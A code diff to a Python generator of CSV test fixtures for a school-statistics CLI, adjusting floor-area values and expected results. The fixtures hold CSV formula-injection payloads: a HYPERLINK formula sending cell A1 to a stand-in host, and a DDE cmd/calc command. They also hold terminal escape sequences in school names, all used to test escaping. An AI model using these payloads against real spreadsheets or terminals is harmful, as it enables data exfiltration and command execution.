@@ -484,14 +484,15 @@ def cases():
     # Exports: formula injection and control characters (crates/cli/tests/cli.rs reads them).
     add("formula_injection_names.csv", utf8(
         "学校名称,学段,在校学生数,教学及辅助用房面积（平方米）\n"
-        "\"=HYPERLINK(\"\"http://x.example/?q=\"\"&A1,\"\"点这里\"\")\",小学,100,500\n"
-        "+cmd|' /C calc'!A0,小学,200,1200\n-2+3,小学,400,3000\n@SUM(1+1),小学,300,2400\n"),
-        ok(4, W, n=4, mean=BASE_MEAN),
-        "school names that a spreadsheet would run as formulas: every CSV export prefixes them "
-        "with ' (before: written as they are)")
+        "\"=HYPERLINK(\"\"http://x.example/?q=\"\"&A1,\"\"点这里\"\")\",小学,100,400\n"
+        "+cmd|' /C calc'!A0,小学,200,800\n-2+3,小学,400,3000\n@SUM(1+1),小学,300,2400\n"),
+        ok(4, W, n=4, mean=6.6),
+        "school names that a spreadsheet would run as formulas (the first two below the 2017 "
+        "area standard, so the plan lists them): every CSV export prefixes them with ' (before: "
+        "written as they are)")
     plain = [f"{n}小,300,2400" for n in "七八九"] + [f"第{k}小学,300,2400" for k in range(10, 40)]
     add("escape_sequences_in_names.csv", utf8(table(BASE + [
-        "\x1b[31m红字小学\x1b[0m,100,500", "\x1b]0;title\x07六小,200,1200"] + plain)),
+        "\x1b[31m红字小学\x1b[0m,100,400", "\x1b]0;title\x07六小,200,800"] + plain)),
         ok(39, W, n=39),
         "ESC sequences in school names: -f text and plan print them escaped (before: sent to "
         "the terminal, which ran them)")
